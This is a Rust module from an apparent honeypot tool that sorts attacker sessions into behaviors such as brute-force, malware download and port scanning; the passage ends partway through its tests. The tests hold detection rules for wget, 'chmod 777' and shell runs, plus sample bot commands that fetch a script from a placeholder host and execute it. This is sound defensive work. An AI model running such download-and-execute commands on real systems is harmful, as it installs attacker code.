//! Session classification: events → matched primitives P → exactly one behavior.
//!
//! Exact-set semantics: behavior B takes a session when B's `when` holds on P and every
//! primitive in P is named by B (in `when` or `optional`). Several candidates: the most specific
//! wins (fewest named primitives), then the highest severity, then the smallest id.

use crate::catalog::{Behavior, Catalog, Primitive};
use crate::expr::Expr;
use crate::extract;
use crate::field::Field;
use crate::line_scan;
use crate::matcher::{protocol_bit, CompileError, Matcher, PrimIter, PrimSet};
use crate::shell;
use serde::{Deserialize, Serialize};
use sikker_event::{Event, EventData, Protocol};
use std::cell::RefCell;
use std::collections::HashMap;
use std::fmt;
use std::net::IpAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use uuid::Uuid;

/// What a session was classified as.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Outcome {
    /// Exactly one behavior accounts for every primitive seen: its id, shared with the
    /// engine's catalog.
    Behavior(Arc<str>),
    /// Primitives matched but no behavior accounts for exactly them: the editors' queue.
    Unclassified,
    /// No primitive matched at all.
    Nothing,
}

impl Outcome {
    pub fn behavior(&self) -> Option<&str> {
        match self {
            Outcome::Behavior(b) => Some(b),
            _ => None,
        }
    }
}

impl fmt::Display for Outcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Outcome::Behavior(b) => f.write_str(b),
            Outcome::Unclassified => f.write_str("unclassified"),
            Outcome::Nothing => f.write_str("nothing"),
        }
    }
}

/// The result of classifying one session.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Classification {
    /// Ids of the matched primitives, in catalog order.
    pub primitives: Primitives,
    pub outcome: Outcome,
}

/// The ids of a session's matched primitives, in catalog order: the matched set itself with
/// the engine's table of ids (shared), so a classification neither allocates a list nor
/// counts a reference per primitive. Serializes as the list of ids.
#[derive(Clone)]
pub struct Primitives {
    ids: Arc<[Box<str>]>,
    set: PrimSet,
}

impl Primitives {
    /// The ids, in catalog order (as given, for a deserialized list).
    pub fn iter(&self) -> PrimitiveIds<'_> {
        PrimitiveIds {
            ids: &self.ids,
            members: self.set.iter(),
        }
    }

    pub fn len(&self) -> usize {
        self.set.len()
    }

    pub fn is_empty(&self) -> bool {
        self.set.is_empty()
    }

    pub fn contains(&self, id: &str) -> bool {
        self.iter().any(|p| p == id)
    }
}

impl<'a> IntoIterator for &'a Primitives {
    type Item = &'a str;
    type IntoIter = PrimitiveIds<'a>;

    fn into_iter(self) -> PrimitiveIds<'a> {
        self.iter()
    }
}

/// The ids of [`Primitives`], in order.
pub struct PrimitiveIds<'a> {
    ids: &'a [Box<str>],
    members: PrimIter<'a>,
}

impl<'a> Iterator for PrimitiveIds<'a> {
    type Item = &'a str;

    fn next(&mut self) -> Option<&'a str> {
        let ids = self.ids;
        self.members
            .find_map(|i| ids.get(i as usize).map(|id| &**id))
    }
}

/// A list of ids as a set of its own: every one of them, in the given order.
impl<S: AsRef<str>> FromIterator<S> for Primitives {
    fn from_iter<I: IntoIterator<Item = S>>(ids: I) -> Primitives {
        let ids: Arc<[Box<str>]> = ids.into_iter().map(|id| id.as_ref().into()).collect();
        let mut set = PrimSet::new(ids.len());
        (0..ids.len() as u32).for_each(|i| set.insert(i));
        Primitives { ids, set }
    }
}

impl PartialEq for Primitives {
    fn eq(&self, other: &Primitives) -> bool {
        self.iter().eq(other.iter())
    }
}

impl Eq for Primitives {}

impl fmt::Debug for Primitives {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_list().entries(self.iter()).finish()
    }
}

impl Serialize for Primitives {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_seq(self.iter())
    }
}

impl<'de> Deserialize<'de> for Primitives {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Primitives, D::Error> {
        Ok(Vec::<String>::deserialize(d)?.into_iter().collect())
    }
}

/// One session's classification with what identifies it (for reclassification and tools).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SessionClassification {
    pub session: Uuid,
    pub src_ip: IpAddr,
    pub protocol: Protocol,
    pub events: usize,
    #[serde(flatten)]
    pub classification: Classification,
}

enum Cond {
    Prim(u32),
    /// Any member of the set: a group, or an `OR` of primitives and groups, as one mask.
    Any(PrimSet),
    All(Vec<Cond>),
    Either(Vec<Cond>),
}

impl Cond {
    fn holds(&self, p: &PrimSet) -> bool {
        match self {
            Cond::All(xs) => xs.iter().all(|x| x.holds_here(p)),
            Cond::Either(xs) => xs.iter().any(|x| x.holds_here(p)),
            leaf => leaf.holds_here(p),
        }
    }

    /// [`Cond::holds`] with the leaves tested in place: most conditions are an `AND` of
    /// primitives and masks, which then costs no call per member.
    #[inline]
    fn holds_here(&self, p: &PrimSet) -> bool {
        match self {
            Cond::Prim(i) => p.contains(*i),
            Cond::Any(m) => m.intersects(p),
            nested => nested.holds(p),
        }
    }
}

struct CompiledBehavior {
    named: PrimSet,
    named_count: usize,
    cond: Cond,
}

/// A compiled catalog, ready to classify sessions. Cheap to share across threads.
pub struct Engine {
    /// Unique per engine: keys the per-thread line cache.
    id: u64,
    catalog: Catalog,
    matcher: Matcher,
    behaviors: Vec<CompiledBehavior>,
    /// For each primitive, the behaviors that name it.
    by_primitive: Vec<Vec<u32>>,
    prim_index: HashMap<String, u32>,
    /// Primitive ids by index, as classifications hand them out.
    prim_ids: Arc<[Box<str>]>,
    /// Behavior ids by index, as outcomes hand them out.
    behavior_ids: Vec<Arc<str>>,
}

impl Engine {
    pub fn new(catalog: Catalog) -> Result<Engine, CompileError> {
        let matcher = Matcher::new(&catalog)?;
        let prim_index: HashMap<String, u32> = catalog
            .primitives
            .iter()
            .enumerate()
            .map(|(i, p)| (p.id.clone(), i as u32))
            .collect();
        let groups: HashMap<&str, Vec<u32>> = catalog
            .groups
            .iter()
            .map(|g| {
                let members = g
                    .members
                    .iter()
                    .filter_map(|m| prim_index.get(m).copied())
                    .collect();
                (g.id.as_str(), members)
            })
            .collect();
        let n = catalog.primitives.len();
        let mut by_primitive = vec![Vec::new(); n];
        let mut behaviors = Vec::with_capacity(catalog.behaviors.len());
        for (bi, b) in catalog.behaviors.iter().enumerate() {
            let mut named = PrimSet::new(n);
            for id in &b.primitives {
                if let Some(&i) = prim_index.get(id) {
                    named.insert(i);
                    by_primitive[i as usize].push(bi as u32);
                }
            }
            behaviors.push(CompiledBehavior {
                named_count: named.len(),
                named,
                cond: compile_expr(&b.when, &prim_index, &groups, n),
            });
        }
        let prim_ids = catalog
            .primitives
            .iter()
            .map(|p| p.id.as_str().into())
            .collect();
        let behavior_ids = catalog
            .behaviors
            .iter()
            .map(|b| b.id.as_str().into())
            .collect();
        Ok(Engine {
            id: NEXT_ENGINE_ID.fetch_add(1, Ordering::Relaxed),
            prim_ids,
            behavior_ids,
            catalog,
            matcher,
            behaviors,
            by_primitive,
            prim_index,
        })
    }

    /// The default catalog, compiled.
    pub fn builtin() -> Engine {
        match Engine::new(Catalog::builtin()) {
            Ok(e) => e,
            Err(e) => panic!("the builtin catalog does not compile: {e}"),
        }
    }

    pub fn catalog(&self) -> &Catalog {
        &self.catalog
    }

    pub fn behavior(&self, id: &str) -> Option<&Behavior> {
        self.catalog.behavior(id)
    }

    pub fn primitive(&self, id: &str) -> Option<&Primitive> {
        self.prim_index
            .get(id)
            .map(|&i| &self.catalog.primitives[i as usize])
    }

    /// Classifies one closed session from all its events (any order). Events of other
    /// sessions must not be mixed in: see [`Engine::classify_events`] for that.
    pub fn classify(&self, events: &[Event]) -> Classification {
        let set = self.match_events(events.iter());
        self.resolve_set(set)
    }

    /// The matched primitive set of a session, compiled matcher, with the line cache.
    fn match_events<'a>(&self, events: impl Iterator<Item = &'a Event>) -> PrimSet {
        let mut events = Some(events);
        let mut run = |cache: Option<&mut LineCache>| {
            events.take().map(|evs| self.match_events_with(evs, cache))
        };
        // One cache per thread; none if it is busy or gone (thread teardown).
        let set = LINE_CACHE
            .try_with(|cell| match cell.try_borrow_mut() {
                Ok(mut cache) => {
                    if cache.engine != self.id {
                        cache.reset(self.id);
                    }
                    run(Some(&mut cache))
                }
                Err(_) => run(None),
            })
            .ok()
            .flatten();
        match set {
            Some(set) => set,
            None => run(None).unwrap_or_else(|| PrimSet::new(self.matcher.primitive_count())),
        }
    }

    fn match_events_with<'a>(
        &self,
        events: impl Iterator<Item = &'a Event>,
        mut cache: Option<&mut LineCache>,
    ) -> PrimSet {
        let n = self.matcher.primitive_count();
        let mut set = PrimSet::new(n);
        let mut facts = SessionFacts::default();
        // Without the cache, a line typed again in the same session still adds nothing.
        let mut lines_seen = LinesSeen::default();
        for e in events {
            facts.see(e);
            let bit = protocol_bit(e.protocol);
            let matcher = &self.matcher;
            if let (EventData::Command { line }, None) = (&e.data, cache.as_ref()) {
                if !lines_seen.first_time(bit, line) {
                    continue;
                }
            }
            // What a command line matches depends only on the line and the protocol, and bots
            // type the same lines again and again: remember it.
            if let (EventData::Command { line }, Some(cache)) = (&e.data, cache.as_deref_mut()) {
                let key = cache.key(line, bit);
                if let Some(hits) = cache.get(key, line, bit) {
                    set.union_with(hits);
                    continue;
                }
                let mut hits = PrimSet::new(n);
                self.match_line(line, bit, &mut hits);
                set.union_with(&hits);
                cache.insert(key, line, bit, hits);
                continue;
            }
            if let EventData::Command { line } = &e.data {
                self.match_line(line, bit, &mut set);
                continue;
            }
            extract::visit(e, &mut |f, v| {
                if matcher.wants(f, bit) {
                    matcher.match_value(f, v, bit, &mut set);
                }
            });
        }
        if let (Some(fact), Some(p)) = (facts.fact(), facts.protocol) {
            self.matcher
                .match_value(Field::Session, fact, protocol_bit(p), &mut set);
        }
        set
    }

    /// Adds what one command line matches: what [`extract::visit`] gives for it, matched,
    /// except that the line itself is scanned only when one of its commands held a
    /// `command_line` literal (or the matcher cannot tell: [`Matcher::folds_command_line`]).
    fn match_line(&self, line: &str, bit: u32, hits: &mut PrimSet) {
        let matcher = &self.matcher;
        let line = extract::command_line_text(line);
        // One pass over the line splits it and scans its commands, when it is ASCII.
        let one_pass = match matcher.command_field() {
            Some(field) if matcher.wants(Field::Command, bit) => {
                line_scan::match_commands(&field, line, bit, hits)
            }
            _ => None,
        };
        let (ascii, hint, commands) = match one_pass {
            Some((found, commands)) => (true, found || !matcher.folds_command_line(bit), commands),
            None => {
                // Every value taken from an ASCII line (commands, scripts, URLs) is ASCII too.
                let ascii = line.is_ascii();
                let mut hint = !(matcher.folds_command_line(bit) && ascii);
                let commands = extract::commands_of_line(line, &mut |f, v| {
                    if matcher.wants(f, bit) {
                        hint |= if ascii {
                            matcher.match_text(f, v, true, bit, hits)
                        } else {
                            matcher.match_value(f, v, bit, hits)
                        };
                    }
                });
                (ascii, hint, commands)
            }
        };
        // A line the splitter stopped short in may hold a literal in no command it gave.
        if (hint || commands >= shell::MAX_COMMANDS_PER_LINE)
            && matcher.wants(Field::CommandLine, bit)
        {
            matcher.match_text(Field::CommandLine, line, ascii, bit, hits);
        }
    }

    /// [`Engine::classify`] without the per-thread command-line cache: every line is split
    /// and matched afresh. Same result; the benchmark's cold-cache figure.
    pub fn classify_uncached(&self, events: &[Event]) -> Classification {
        let set = self.match_events_with(events.iter(), None);
        self.resolve_set(set)
    }

    /// Reference classification: every primitive tested on its own against every extracted
    /// value. Same result as [`Engine::classify`], much slower; the benchmark's baseline.
    pub fn classify_naive(&self, events: &[Event]) -> Classification {
        let mut values: Vec<(Field, String, u32)> = Vec::new();
        let mut facts = SessionFacts::default();
        for e in events {
            facts.see(e);
            let bit = protocol_bit(e.protocol);
            extract::visit(e, &mut |f, v| values.push((f, v.to_owned(), bit)));
        }
        if let (Some(fact), Some(p)) = (facts.fact(), facts.protocol) {
            values.push((Field::Session, fact.to_owned(), protocol_bit(p)));
        }
        let mut set = PrimSet::new(self.matcher.primitive_count());
        for prim in 0..self.matcher.primitive_count() as u32 {
            if values
                .iter()
                .any(|(f, v, bit)| self.matcher.naive_match(prim, *f, v, *bit))
            {
                set.insert(prim);
            }
        }
        self.resolve_set(set)
    }

    /// Classifies a set of primitive ids (as stored), e.g. to re-resolve stored sets against
    /// a new catalog without the raw events. Unknown ids make the set unclassifiable.
    pub fn resolve<S: AsRef<str>>(&self, primitive_ids: &[S]) -> Outcome {
        let mut set = PrimSet::new(self.matcher.primitive_count());
        for id in primitive_ids {
            match self.prim_index.get(id.as_ref()) {
                Some(&i) => set.insert(i),
                None => return Outcome::Unclassified,
            }
        }
        self.outcome_of(&set)
    }

    fn resolve_set(&self, set: PrimSet) -> Classification {
        let outcome = self.outcome_of(&set);
        Classification {
            primitives: Primitives {
                ids: Arc::clone(&self.prim_ids),
                set,
            },
            outcome,
        }
    }

    fn outcome_of(&self, set: &PrimSet) -> Outcome {
        // The primitive named by the fewest behaviors: only those can account for the set.
        let mut rarest: Option<(usize, u32)> = None;
        for i in set.iter() {
            let Some(by) = self.by_primitive.get(i as usize) else {
                continue;
            };
            if rarest.is_none_or(|(n, _)| by.len() < n) {
                rarest = Some((by.len(), i));
            }
        }
        let Some((_, rarest)) = rarest else {
            return Outcome::Nothing;
        };
        let mut best: Option<usize> = None;
        for &bi in &self.by_primitive[rarest as usize] {
            let bi = bi as usize;
            let b = &self.behaviors[bi];
            if !set.is_subset(&b.named) || !b.cond.holds(set) {
                continue;
            }
            best = Some(match best {
                None => bi,
                Some(cur) if self.better(bi, cur) => bi,
                Some(cur) => cur,
            });
        }
        match best {
            Some(bi) => match self.behavior_ids.get(bi) {
                Some(id) => Outcome::Behavior(Arc::clone(id)),
                None => Outcome::Unclassified,
            },
            None => Outcome::Unclassified,
        }
    }

    /// Tie-break: fewer named primitives, then higher severity, then smaller id.
    fn better(&self, a: usize, b: usize) -> bool {
        let (ca, cb) = (&self.behaviors[a], &self.behaviors[b]);
        let (ba, bb) = (&self.catalog.behaviors[a], &self.catalog.behaviors[b]);
        (ca.named_count, std::cmp::Reverse(ba.severity), &ba.id)
            < (cb.named_count, std::cmp::Reverse(bb.severity), &bb.id)
    }

    /// Groups events by session (in order of first appearance) and classifies each: the
    /// reclassification entry point (`sikker catalog apply`, `sikker catalog test`).
    pub fn classify_events(&self, events: &[Event]) -> Vec<SessionClassification> {
        let mut order: Vec<Uuid> = Vec::new();
        let mut by_session: HashMap<Uuid, Vec<&Event>> = HashMap::new();
        for e in events {
            by_session
                .entry(e.session)
                .or_insert_with(|| {
                    order.push(e.session);
                    Vec::new()
                })
                .push(e);
        }
        order
            .into_iter()
            .filter_map(|s| {
                let evs = by_session.remove(&s)?;
                let first = evs.first()?;
                let set = self.match_events(evs.iter().copied());
                Some(SessionClassification {
                    session: s,
                    src_ip: first.canonical_src_ip(),
                    protocol: first.protocol,
                    events: evs.len(),
                    classification: self.resolve_set(set),
                })
            })
            .collect()
    }
}

/// Lines remembered per session by the uncached path (a linear scan: sessions are short).
const MAX_LINES_SEEN: usize = 64;

/// The command lines of one session matched so far, with their protocol bits, for the
/// uncached path. A 64-bit mask of a cheap hash of each line answers "new" for most lines
/// without the scan, which compared each line with every one before it.
/// Empty slots are `None`, all zero bytes: the array is set up by clearing memory, where
/// `(0, "")` slots were written one field at a time.
struct LinesSeen<'a> {
    lines: [Option<(u32, &'a str)>; MAX_LINES_SEEN],
    len: usize,
    mask: u64,
}

impl Default for LinesSeen<'_> {
    fn default() -> Self {
        LinesSeen {
            lines: [None; MAX_LINES_SEEN],
            len: 0,
            mask: 0,
        }
    }
}

impl<'a> LinesSeen<'a> {
    /// Whether `line` is new for protocol `bit` in this session; remembers it (the first
    /// [`MAX_LINES_SEEN`] lines).
    fn first_time(&mut self, bit: u32, line: &'a str) -> bool {
        let b = line.as_bytes();
        let byte = |i: usize| u64::from(b.get(i).copied().unwrap_or(0));
        let h = b.len() as u64
            ^ byte(0) << 16
            ^ byte(b.len() / 2) << 24
            ^ byte(b.len().wrapping_sub(1)) << 32
            ^ u64::from(bit) << 20;
        let m = 1u64 << (h.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 58);
        if self.mask & m != 0 && self.lines[..self.len].contains(&Some((bit, line))) {
            return false;
        }
        self.mask |= m;
        if let Some(slot) = self.lines.get_mut(self.len) {
            *slot = Some((bit, line));
            self.len += 1;
        }
        true
    }
}

thread_local! {
    static LINE_CACHE: RefCell<LineCache> = RefCell::new(LineCache::default());
}

/// Distinguishes engines (catalogs) in the per-thread line cache.
static NEXT_ENGINE_ID: AtomicU64 = AtomicU64::new(1);

/// Per thread: the primitives each recently seen command line matched, per protocol, for one
/// engine. Two generations, each bounded: when the young one fills up it becomes the old one
/// (the previous old one is dropped), and a hit in the old one moves back to the young. Lines
/// still in use survive a turnover, where emptying the whole cache would lose them all.
struct LineCache {
    engine: u64,
    /// Secret per cache, mixed into every key: see [`Generation`].
    seed: u64,
    young: Generation,
    old: Generation,
}

impl Default for LineCache {
    fn default() -> LineCache {
        use std::hash::BuildHasher;
        LineCache {
            engine: 0,
            seed: std::collections::hash_map::RandomState::new().hash_one(0x5eed_u64),
            young: Generation::default(),
            old: Generation::default(),
        }
    }
}

/// Cached lines by [`line_key`]. The key only places an entry: the line and protocol are kept
/// and compared, so two lines with one key are a miss, never a wrong answer. Keys are mixed
/// with a random per-cache seed and the map uses them as they are; lines crafted to collide
/// cannot be made without the seed, and at worst displace each other.
#[derive(Default)]
struct Generation {
    entries: HashMap<u64, Cached, std::hash::BuildHasherDefault<KeyIsHash>>,
    bytes: usize,
}

struct Cached {
    proto: u32,
    line: Box<str>,
    hits: PrimSet,
}

/// The map's hasher for keys that are already hashes.
#[derive(Default)]
struct KeyIsHash(u64);

impl std::hash::Hasher for KeyIsHash {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, bytes: &[u8]) {
        // Only u64 keys are hashed here; fold anything else in rather than lose it.
        for &b in bytes {
            self.0 = (self.0.rotate_left(8) ^ u64::from(b)).wrapping_mul(0x9e37_79b9_7f4a_7c15);
        }
    }
    fn write_u64(&mut self, n: u64) {
        self.0 = n;
    }
}

impl Generation {
    fn with_room() -> Generation {
        Generation {
            entries: HashMap::with_capacity_and_hasher(LineCache::MAX_LINES, Default::default()),
            bytes: 0,
        }
    }

    fn get(&self, key: u64, line: &str, proto: u32) -> Option<&Cached> {
        self.entries
            .get(&key)
            .filter(|c| c.proto == proto && &*c.line == line)
    }
}

impl LineCache {
    /// Lines per generation.
    const MAX_LINES: usize = 16 * 1024;
    /// Line bytes per generation.
    const MAX_BYTES: usize = 4 << 20;
    /// Longer lines are rare and mostly unique: not worth keeping.
    const MAX_LINE: usize = 4 * 1024;

    fn reset(&mut self, engine: u64) {
        *self = LineCache {
            engine,
            ..LineCache::default()
        };
    }

    /// The key of a line in this cache.
    fn key(&self, line: &str, proto: u32) -> u64 {
        line_key(line, proto, self.seed)
    }

    fn get(&mut self, key: u64, line: &str, proto: u32) -> Option<&PrimSet> {
        if self.young.get(key, line, proto).is_none() {
            self.old.get(key, line, proto)?;
            let moved = self.old.entries.remove(&key)?;
            self.old.bytes -= moved.line.len();
            self.put(key, moved);
        }
        self.young.get(key, line, proto).map(|c| &c.hits)
    }

    fn insert(&mut self, key: u64, line: &str, proto: u32, hits: PrimSet) {
        if line.len() > Self::MAX_LINE {
            return;
        }
        self.put(
            key,
            Cached {
                proto,
                line: line.into(),
                hits,
            },
        );
    }

    fn put(&mut self, key: u64, entry: Cached) {
        if self.young.entries.capacity() == 0 {
            self.young = Generation::with_room();
        }
        if self.young.entries.len() >= Self::MAX_LINES
            || self.young.bytes + entry.line.len() > Self::MAX_BYTES
        {
            self.old = std::mem::replace(&mut self.young, Generation::with_room());
        }
        self.young.bytes += entry.line.len();
        if let Some(displaced) = self.young.entries.insert(key, entry) {
            self.young.bytes -= displaced.line.len();
        }
    }
}

/// A fast 64-bit hash of a command line and its protocol under `seed`: eight bytes per step.
fn line_key(line: &str, proto: u32, seed: u64) -> u64 {
    const K: u64 = 0x9e37_79b9_7f4a_7c15;
    let mix = |h: u64, w: u64| (h.rotate_left(5) ^ w).wrapping_mul(K);
    let bytes = line.as_bytes();
    let mut h = mix(seed ^ u64::from(proto), bytes.len() as u64);
    let mut chunks = bytes.chunks_exact(8);
    for c in &mut chunks {
        let mut w = [0u8; 8];
        w.copy_from_slice(c);
        h = mix(h, u64::from_le_bytes(w));
    }
    let rest = chunks.remainder();
    if !rest.is_empty() {
        let mut w = [0u8; 8];
        w[..rest.len()].copy_from_slice(rest);
        h = mix(h, u64::from_le_bytes(w));
    }
    // Spread the high bits down: the map takes its bucket from the low ones.
    h ^ (h >> 32) ^ (h >> 47)
}

#[derive(Default)]
struct SessionFacts {
    protocol: Option<Protocol>,
    auth: bool,
    active: bool,
}

impl SessionFacts {
    fn see(&mut self, e: &Event) {
        self.protocol.get_or_insert(e.protocol);
        match extract::sign(e) {
            extract::Sign::Login => self.auth = true,
            extract::Sign::Activity => self.active = true,
            extract::Sign::Neither => {}
        }
    }

    fn fact(&self) -> Option<&'static str> {
        match (self.auth, self.active) {
            (_, true) => None,
            (true, false) => Some("auth-only"),
            (false, false) => Some("connect-only"),
        }
    }
}

fn compile_expr(
    e: &Expr,
    prims: &HashMap<String, u32>,
    groups: &HashMap<&str, Vec<u32>>,
    n: usize,
) -> Cond {
    let any = |members: &[u32]| {
        let mut m = PrimSet::new(n);
        members.iter().for_each(|&i| m.insert(i));
        Cond::Any(m)
    };
    match e {
        Expr::Ref(id) => match (prims.get(id), groups.get(id.as_str())) {
            (Some(&i), _) => Cond::Prim(i),
            (None, Some(members)) => any(members),
            // Validation rejects unknown ids; an empty Any never holds.
            (None, None) => any(&[]),
        },
        Expr::And(xs) => Cond::All(
            xs.iter()
                .map(|x| compile_expr(x, prims, groups, n))
                .collect(),
        ),
        Expr::Or(xs) => {
            let parts: Vec<Cond> = xs
                .iter()
                .map(|x| compile_expr(x, prims, groups, n))
                .collect();
            // An OR of primitives and groups is one mask test, not a walk over its members.
            let mut members = PrimSet::new(n);
            for p in &parts {
                match p {
                    Cond::Prim(i) => members.insert(*i),
                    Cond::Any(m) => members.union_with(m),
                    _ => return Cond::Either(parts),
                }
            }
            Cond::Any(members)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sikker_event::{Auth, AuthMethod, Request};

    const TECH: &str = r#"
[[technique]]
id = "T1110.001"
name = "Password Guessing"
[[technique]]
id = "T1105"
name = "Ingress Tool Transfer"
"#;

    const CAT: &str = r#"
primitive = [
  { id = "login", protocols = ["ssh", "telnet"], field = "auth_method", op = "EQUALS", value = "password" },
  { id = "wget", protocols = ["ssh", "telnet"], field = "command", op = "WILDCARD", value = "wget *" },
  { id = "chmod", protocols = ["ssh", "telnet"], field = "command", op = "CONTAINS", value = "chmod 777" },
  { id = "run-sh", protocols = ["ssh", "telnet"], field = "command", op = "REGEX", value = '^(ba)?sh [a-z.]+$' },
  { id = "uname", protocols = ["ssh", "telnet"], field = "command", op = "EQUALS", value = "uname -a" },
  { id = "upper-secret", protocols = ["ssh"], field = "command", op = "CONTAINS", value = "SECRET", case_sensitive = true },
  { id = "scan", protocols = ["any"], field = "session", op = "EQUALS", value = "connect-only" },
  { id = "ua-zgrab", protocols = ["http"], field = "user_agent", op = "CONTAINS", value = "zgrab" },
]

[[group]]
id = "recon"
members = ["uname"]

[[behavior]]
id = "guessing"
name = "brute-force"
description = "x"
severity = "high"
techniques = ["T1110.001"]
kill_chain = ["credential-access"]
when = "login"

[[behavior]]
id = "loader"
name = "malware-download"
description = "x"
severity = "very_high"
techniques = ["T1105"]
kill_chain = ["command-and-control"]
when = "login AND wget AND (chmod OR run-sh)"
optional = ["recon"]

[[behavior]]
id = "loader-broad"
name = "malware-download"
description = "x"
severity = "very_high"
techniques = ["T1105"]
kill_chain = ["command-and-control"]
when = "login AND wget AND (chmod OR run-sh)"
optional = ["recon", "upper-secret"]

[[behavior]]
id = "a-tie"
name = "tie"
description = "x"
severity = "low"
techniques = ["T1105"]
kill_chain = ["discovery"]
when = "login AND uname"

[[behavior]]
id = "b-tie"
name = "tie"
description = "x"
severity = "medium"
techniques = ["T1105"]
kill_chain = ["discovery"]
when = "uname AND (login OR uname)"

[[behavior]]
id = "port-scan"
name = "port-scanning"
description = "x"
severity = "low"
techniques = ["T1105"]
kill_chain = ["discovery"]
when = "scan"

[[behavior]]
id = "zgrab"
name = "scanner"
description = "x"
severity = "info"
techniques = ["T1105"]
kill_chain = ["reconnaissance"]
when = "ua-zgrab"
"#;

    fn engine() -> Engine {
        let files = vec![
            ("attack.toml".to_string(), TECH.to_string()),
            ("t.toml".to_string(), CAT.to_string()),
        ];
        let c = Catalog::parse(&files).unwrap_or_else(|d| {
            panic!(
                "{}",
                d.iter()
                    .map(|x| x.to_string())
                    .collect::<Vec<_>>()
                    .join("\n")
            )
        });
        Engine::new(c).unwrap()
    }

    fn ev(protocol: Protocol, data: EventData) -> Event {
        Event::new(
            "t",
            Uuid::from_u128(7),
            protocol,
            "203.0.113.1".parse().unwrap(),
            1,
            22,
            data,
        )
    }

    fn login() -> Event {
        ev(
            Protocol::Ssh,
            EventData::Auth(Auth {
                method: AuthMethod::Password,
                username: "root".into(),
                password: Some("root".into()),
                key_type: None,
                key_fingerprint: None,
                success: true,
            }),
        )
    }

    fn cmd(line: &str) -> Event {
        ev(Protocol::Ssh, EventData::Command { line: line.into() })
    }

    fn ids(c: &Classification) -> Vec<&str> {
        c.primitives.iter().collect()
    }

    fn both(e: &Engine, events: &[Event]) -> Classification {
        let c = e.classify(events);
        assert_eq!(c, e.classify_naive(events), "compiled and naive disagree");
        c
    }

    #[test]
    fn each_operator_matches() {
        let e = engine();
        let c = both(
            &e,
            &[
                login(),
                cmd("WGET http://x/y; chmod 777 y; bash y.sh; uname -a"),
            ],
        );
        assert_eq!(ids(&c), ["login", "wget", "chmod", "run-sh", "uname"]);
        // EQUALS is whole-value; CONTAINS case-sensitive respects case.
        let c = both(&e, &[cmd("uname -a -r; echo secret")]);
        assert!(c.primitives.is_empty(), "{c:?}");
        let c = both(&e, &[cmd("echo SECRET")]);
        assert_eq!(ids(&c), ["upper-secret"]);
        // Protocol filter: Upper is ssh-only.
        let mut t = cmd("echo SECRET");
        t.protocol = Protocol::Telnet;
        assert!(both(&e, &[t]).primitives.is_empty());
    }

    #[test]
    fn exact_set_semantics() {
        let e = engine();
        let full = [
            login(),
            cmd("cd /tmp; wget http://x/bins.sh; chmod 777 bins.sh; sh bins.sh"),
        ];
        assert_eq!(both(&e, &full).outcome, Outcome::Behavior("loader".into()));
        // Optional recon does not change the class.
        let with_recon = [login(), cmd("uname -a; wget http://x/b; chmod 777 b")];
        assert_eq!(
            both(&e, &with_recon).outcome,
            Outcome::Behavior("loader".into())
        );
        // One missing required primitive: no match for loader.
        let missing = [cmd("wget http://x/b; chmod 777 b")];
        assert_eq!(both(&e, &missing).outcome, Outcome::Unclassified);
        // One extra primitive that no behavior names alongside these: unclassified, except the
        // broader behavior that does name it.
        let extra = [login(), cmd("wget http://x/b; chmod 777 b; echo SECRET")];
        assert_eq!(
            both(&e, &extra).outcome,
            Outcome::Behavior("loader-broad".into())
        );
        let extra = [
            login(),
            cmd("wget http://x/b; chmod 777 b"),
            ev(Protocol::Ssh, EventData::Command { line: "x".into() }),
        ];
        assert_eq!(both(&e, &extra).outcome, Outcome::Behavior("loader".into()));
        let stray = [login(), cmd("echo SECRET")];
        assert_eq!(both(&e, &stray).outcome, Outcome::Unclassified);
    }

    /// The JSON of a classification is a contract (stored reclassification data, tool
    /// output): the primitives are a plain list of ids, and it reads back equal.
    #[test]
    fn classifications_serialize_as_lists_of_ids() {
        let e = engine();
        let c = e.classify_uncached(&[login(), cmd("wget http://x/b; chmod 777 b")]);
        let json = serde_json::to_value(&c).unwrap();
        assert_eq!(
            json,
            serde_json::json!({
                "primitives": ["login", "wget", "chmod"],
                "outcome": { "behavior": "loader" },
            })
        );
        let back: Classification = serde_json::from_value(json).unwrap();
        assert_eq!(back, c);
        assert_eq!(back.primitives.len(), 3);
        assert!(back.primitives.contains("wget") && !back.primitives.contains("uname"));
        let session = &e.classify_events(&[login(), cmd("uname -a")])[0];
        let json = serde_json::to_string(session).unwrap();
        assert!(json.contains(r#""primitives":["login","uname"]"#), "{json}");
        let back: SessionClassification = serde_json::from_str(&json).unwrap();
        assert_eq!(&back, session);
        let none = e.classify_uncached(&[cmd("ls")]);
        assert_eq!(serde_json::to_string(&none.primitives).unwrap(), "[]");
        assert!(none.primitives.is_empty());
    }

    #[test]
    fn tie_breaks() {
        let e = engine();
        // Both loader and loader-broad accept; loader names fewer primitives.
        let s = [login(), cmd("wget http://x/b; chmod 777 b")];
        assert_eq!(both(&e, &s).outcome.behavior(), Some("loader"));
        // a-tie and b-tie name the same two primitives: higher severity wins.
        let s = [login(), cmd("uname -a")];
        assert_eq!(both(&e, &s).outcome.behavior(), Some("b-tie"));
    }

    #[test]
    fn unclassified_nothing_and_scan() {
        let e = engine();
        assert_eq!(both(&e, &[cmd("ls")]).outcome, Outcome::Nothing);
        assert_eq!(both(&e, &[]).outcome, Outcome::Nothing);
        let scan = [ev(Protocol::Redis, EventData::Connect)];
        assert_eq!(both(&e, &scan).outcome.behavior(), Some("port-scan"));
        assert_eq!(both(&e, &[login()]).outcome.behavior(), Some("guessing"));
        let http = ev(
            Protocol::Http,
            EventData::Request(Request {
                method: Some("GET".into()),
                target: Some("/".into()),
                headers: vec![("User-Agent".into(), "Mozilla/5.0 zgrab/0.x".into())],
                ..Default::default()
            }),
        );
        assert_eq!(both(&e, &[http]).outcome.behavior(), Some("zgrab"));
    }

    #[test]
    fn line_cache_is_per_protocol_and_per_engine() {
        let e = engine();
